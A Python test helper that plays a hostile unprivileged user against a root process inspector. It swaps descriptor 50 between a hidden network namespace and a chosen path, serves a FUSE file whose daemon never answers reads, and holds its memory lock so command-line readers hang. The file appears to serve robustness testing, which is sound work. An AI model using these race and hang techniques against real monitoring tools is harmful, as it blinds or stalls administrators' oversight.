#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""A user who swaps what is behind a descriptor while root looks: run as `hostile.py MODE [PATH]`, ends with its parent.

swap PATH: a network namespace that only descriptor 50 holds; 50 is that namespace and PATH in turn.
fuse: a listener in such a namespace, held by descriptor 50 alone; 50 is that socket and a FUSE file in turn, whose daemon
never answers FLUSH, READ nor, later, GETATTR.
memory PORT: listens on that port of loopback, and the lock of its memory is held for ever: who reads its command line waits.
Prints "ready" when it begins to swap, and what the daemon is asked for.
"""
import array
import ctypes
import os
import signal
import socket
import stat
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWNET = 0x20000, 0x10000000, 0x40000000
PLACE = 50
PAUSE = 0.002
PAGE = 4096


def say(text):
    print(text, flush=True)


def must(result, what):
    if result:
        raise OSError(ctypes.get_errno(), what)


def from_hidden_namespace(make):
    """The descriptor that make() gives in a network namespace of a child that ends."""
    ours, theirs = socket.socketpair()
    if not os.fork():
        must(libc.unshare(NEWUSER | NEWNET if os.getuid() else NEWNET), "unshare")
        fd = make()
        socket.send_fds(theirs, [b"x"], [fd])
        os._exit(0)
    _, (fd,), _, _ = socket.recv_fds(ours, 1, 1)
    os.wait()
    return fd


def own_netns():
    return os.open("/proc/self/ns/net", os.O_RDONLY)


def listening():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 4242))
    sock.listen()
    return sock.detach()


def alternate(good, bad):
    say("ready")
    while True:
        for fd in (good, bad):
            os.dup2(fd, PLACE)
            time.sleep(PAUSE)


class Fuse:
    """A file system of one file, /mnt/x, in a mount namespace of our own."""
    FILE = stat.S_IFREG | 0o666
    LOOKUP, FORGET, GETATTR, OPEN, READ, WRITE, RELEASE, FLUSH, INIT, OPENDIR = 1, 2, 3, 14, 15, 16, 18, 25, 26, 27

    def __init__(self, node):
        must(libc.unshare(NEWNS), "unshare")
        must(libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None), "private")
        self.device = os.open(node, os.O_RDWR)
        must(libc.mount(b"evil", b"/mnt", b"fuse", 6, f"fd={self.device},rootmode=40000,user_id=0,group_id=0".encode()),
             "mount fuse")
        self.silent = False
        threading.Thread(target=self.serve, daemon=True).start()

    @staticmethod
    def attributes(inode):
        mode = stat.S_IFDIR | 0o755 if inode == 1 else Fuse.FILE
        return struct.pack("<QQQQQQIIIIIIIIII", inode, 0 if inode == 1 else PAGE, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    def answer(self, code, inode):
        if code == self.INIT:
            return struct.pack("<IIIIHHIIHHI", 7, 31, 0, 0, 0, 0, 4096, 0, 0, 0, 0) + bytes(28)
        if code == self.LOOKUP:
            return struct.pack("<QQQQII", 2, 1, 0, 0, 0, 0) + self.attributes(2)
        if code == self.GETATTR:
            return struct.pack("<QII", 0, 0, 0) + self.attributes(inode)
        if code in (self.OPEN, self.OPENDIR):
            return struct.pack("<QII", 1, 0, 0)
        if code == self.READ:
            return bytes(PAGE)
        return b"" if code == self.RELEASE else None

    def serve(self):
        while True:
            request = os.read(self.device, 1 << 18)
            _, code, unique, inode, _, _, pid, _ = struct.unpack_from("<IIQQIIII", request)
            mine = os.path.exists(f"/proc/self/task/{pid}")  # our dup2() flushes, too
            if self.silent and not mine and code in (self.FLUSH, self.READ, self.GETATTR):
                say(f"asked {code} by {pid}")
                continue
            if code in (self.FORGET, self.WRITE):
                continue
            body = self.answer(code, inode)
            os.write(self.device, struct.pack("<IiQ", 16 + len(body or b""), 0 if body is not None else -38, unique) +
                     (body or b""))


def fuse_node():
    node = "/dev/fuse"
    if not os.path.exists(node):
        node = "/dev/shm/netstate-test-fuse"
        if not os.path.exists(node):
            os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(10, 229))
    return node


def fuse():
    good = from_hidden_namespace(listening)
    system = Fuse(fuse_node())
    bad = os.open("/mnt/x", os.O_RDWR)
    system.silent = True
    alternate(good, bad)


def memory(port):
    """munmap(2) writes a FUSE file's changed page out under that lock, and a writer that waits behind it keeps readers out."""
    server = socket.create_server(("127.0.0.1", port))
    Fuse(fuse_node())
    if os.fork():
        server.close()
        while True:
            signal.pause()
    libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # the daemon's end lets us go
    file = os.open("/mnt/x", os.O_RDWR)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    page = libc.mmap(None, PAGE, 3, 1, file, 0)
    ctypes.memset(page, 1, 1)
    threading.Thread(target=libc.munmap, args=(page, PAGE), daemon=True).start()
    time.sleep(0.2)
    say("ready")
    libc.mmap(None, PAGE, 3, 0x22, -1, 0)


def main():
    libc.prctl(1, signal.SIGKILL, 0, 0, 0)
    if sys.argv[1] == "swap":
        bad = os.open(sys.argv[2], os.O_PATH)
        if os.getuid() == 0:
            os.setgroups([])
            os.setresgid(65534, 65534, 65534)
            os.setresuid(65534, 65534, 65534)
            libc.prctl(1, signal.SIGKILL, 0, 0, 0)
        alternate(from_hidden_namespace(own_netns), bad)
    elif sys.argv[1] == "memory":
        memory(int(sys.argv[2]))
    else:
        fuse()


main()
